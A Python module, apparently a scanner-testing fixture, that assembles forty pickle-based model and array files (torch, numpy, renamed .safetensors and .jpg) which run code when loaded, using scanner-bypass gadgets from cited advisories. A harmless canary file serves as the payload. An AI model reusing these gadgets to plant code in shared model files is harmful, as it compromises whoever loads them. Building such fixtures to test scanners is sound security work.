"""Forty files, each of which runs code where a careless reader loads it, made byte by byte.

Nothing is pickled here, so that no callable has to exist while the files are made: a small
assembler writes the opcodes of a pickle, and the containers are put around them. The ways to run
code are those of the advisories against scanners of pickles (picklescan GHSA-9gvj-pp9x-gcfr,
GHSA-gx77-x2pv-48v7, GHSA-xp4f-hrf8-rxw7; fickling's test/test_bypasses.py), and of what lies about
the web. `detonate` is such a careless reader, to prove that a file does what it says.
"""

import io
import marshal
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any


class Code(bytes):
    """Opcodes that leave one value on the pickle's stack."""


def value(thing: Any) -> Code:
    """Opcodes for a plain value, or those that are given."""
    if isinstance(thing, Code):
        return thing
    if thing is None or isinstance(thing, bool):
        return Code({None: b"N", True: b"\x88", False: b"\x89"}[thing])
    if isinstance(thing, int):
        return Code(b"J" + struct.pack("<i", thing))
    if isinstance(thing, str):
        text = thing.encode()
        return Code(b"X" + struct.pack("<I", len(text)) + text)
    if isinstance(thing, bytes):
        return Code(b"B" + struct.pack("<I", len(thing)) + thing)
    if isinstance(thing, dict):
        pairs = b"".join(value(key) + value(entry) for key, entry in thing.items())
        return Code(b"}(" + pairs + b"u")
    if isinstance(thing, list):
        return Code(b"](" + b"".join(map(value, thing)) + b"e")
    return Code(b"(" + b"".join(map(value, thing)) + b"t")


def name(path: str) -> Code:
    """GLOBAL: a function by its module and name, as `os:system`."""
    return Code(b"c" + path.replace(":", "\n").encode() + b"\n")


def name_of_4(path: str) -> Code:
    """STACK_GLOBAL, in which the name may have dots."""
    module, _, function = path.partition(":")
    return Code(value(module) + value(function) + b"\x93")


def call(function: str | Code, *arguments: Any) -> Code:
    """REDUCE: the function with these arguments."""
    what = function if isinstance(function, Code) else name(function)
    return Code(what + value(tuple(arguments)) + b"R")


def pickled(thing: Any, protocol: int = 2) -> bytes:
    """A whole pickle of a value."""
    return bytes([0x80, protocol]) + value(thing) + b"."


def ways(canary: Path) -> dict[str, bytes]:
    """Pickles by the way in which each makes `canary`."""
    shell, python = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    words = ["touch", str(canary)]
    expression = f"open({str(canary)!r}, 'w')"
    code = marshal.dumps(compile(python, "x", "exec"))
    system = call("os:system", shell)
    getattr_, import_ = "builtins:getattr", "importlib:import_module"
    partial = call("functools:partial", name("os:system"), shell)
    instance = f"(S'{shell}'\nios\nsystem\n.".encode()
    made = Code(b"(" + name("os:system") + value(shell) + b"o")
    state = Code(name("types:SimpleNamespace") + b")R" + value({"inside": system}) + b"b")
    function = call("types:FunctionType", call("marshal:loads", code), call("builtins:globals"))
    return {
        "system": pickled(system),
        "posix": pickled(call("posix:system", shell)),
        "popen": pickled(call(call(getattr_, call("os:popen", shell), "read"))),
        "spawn": pickled(call("os:spawnvp", 0, "touch", words)),
        "eval": pickled(call("builtins:eval", expression)),
        "exec": pickled(call("builtins:exec", python)),
        "python2": pickled(call("__builtin__:eval", expression)),
        "open": pickled(call("_io:open", str(canary), "w")),
        "importlib": pickled(call(call(getattr_, call(import_, "os"), "system"), shell)),
        "import": pickled(call(call(getattr_, call("builtins:__import__", "os"), "system"), shell)),
        "marshal": pickled(call(function)),
        "subprocess": pickled(call("subprocess:check_call", words)),
        "nested": pickled({"weights": [{"deep": (system,)}]}),
        "inner": pickled(call("pickle:loads", pickled(system))),
        "partial": pickled(call(partial)),
        "dotted": pickled(call(name_of_4("subprocess:os.system"), shell), 4),
        "instance": instance,
        "object": pickled(made),
        "build": pickled(state),
        "unfinished": pickled(system)[:-1],
        "timeit": pickled(call("timeit:timeit", python, "pass", Code(name("time:time")), 1)),
        "profile": pickled(call("cProfile:run", python, f"{canary}.prof")),
        "runpy": pickled(
            call("runpy:_run_code", call("builtins:compile", python, "x", "exec"), {})
        ),
        "wrapped": pickled(call("torch.jit.unsupported_tensor_ops:execWrapper", python, {}, {})),
        "environment": pickled(call("torch.utils.collect_env:run", shell)),
        "numpy": pickled(call("numpy.testing._private.utils:runstring", python, {})),
        "fortran": pickled(call("numpy.f2py.crackfortran:myeval", expression, {}, {})),
        "imap": pickled(call("imaplib:IMAP4_stream", shell)),
        "bytes": pickled(call("torch.storage:_load_from_bytes", torch_zip(pickled(system)))),
    }


def torch_zip(pickle: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    """What torch.save writes, with this pickle in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("archive/data.pkl", pickle)
        archive.writestr("archive/byteorder", sys.byteorder)
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def torch_legacy(pickle: bytes, keys: bytes = b"\x80\x02].") -> bytes:
    """Of torch before 1.6: a magic number, a version, the machine, the pickle, storages' keys."""
    magic = Code(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19")
    machine = {"protocol_version": 1001, "little_endian": sys.byteorder == "little"}
    sizes = {"short": 2, "int": 4, "long": 4}
    head = pickled(magic) + pickled(1001) + pickled({**machine, "type_sizes": sizes})
    return head + pickle + keys


def torch_tar(pickle: bytes) -> bytes:
    """What it wrote before that: a tar of `storages`, `tensors`, `pickle`."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for entry in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(entry)
            info.size = len(pickle)
            tar.addfile(info, io.BytesIO(pickle))
    return buffer.getvalue()


def npy(pickle: bytes) -> bytes:
    """An array of objects, as `numpy.save(..., allow_pickle=True)` writes it."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle


def npz(pickle: bytes) -> bytes:
    """The same as one array of an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("kernel.npy", npy(pickle))
    return buffer.getvalue()


def hostile_files(folder: Path, canary: Path) -> list[Path]:
    """Write forty hostile files into `folder`; each makes `canary` if its pickle is loaded."""
    pickles = ways(canary)
    system = call("os:system", f"touch {canary}")
    lightning = {"hyper_parameters": system, "state_dict": {}, "pytorch-lightning_version": "2.6"}
    containers: dict[str, bytes] = {
        "new.pth": torch_zip(pickled({"state_dict": {"weight": system}})),
        "lightning.ckpt": torch_zip(pickled(lightning)),
        "packed.bin": torch_zip(pickles["eval"], zipfile.ZIP_DEFLATED),
        "legacy.pt": torch_legacy(pickled({"state_dict": system})),
        "tar.tar": torch_tar(pickles["system"]),
        "objects.npy": npy(pickles["system"]),
        "objects.npz": npz(pickles["exec"]),
        "pickle.safetensors": pickled({"weight": system}, 4),
        "keys.pt": torch_legacy(pickled({}), keys=pickled([system])),
        ".metadata": pickled({"state_dict_metadata": system}),
        "renamed.jpg": torch_zip(pickles["posix"]),
    }
    suffixes = (".pkl", ".pth", ".pt", ".th", ".ckpt", ".bin")
    for index, (way, pickle) in enumerate(pickles.items()):
        containers[way + suffixes[index % len(suffixes)]] = pickle
    folder.mkdir(parents=True, exist_ok=True)
    for file, content in containers.items():
        (folder / file).write_bytes(content)
    return [folder / file for file in containers]


def detonate(file: Path, canary: Path) -> int:
    """Load a file as careless programs do until `canary` is there; only in a child process.

    Returns 0 if it is there, else 1.
    """
    import pickle

    import numpy as np
    import torch

    readers: Sequence[Callable[[], Any]] = (
        lambda: pickle.loads(file.read_bytes()),  # noqa: S301
        lambda: torch.load(file, weights_only=False),
        lambda: dict(np.load(file, allow_pickle=True)),
    )
    for read in readers:
        try:
            read()
        except Exception as error:  # hostile files raise what they like
            print(f"{file.name}: {type(error).__name__}: {error}")
        if canary.exists():
            return 0
    return 1
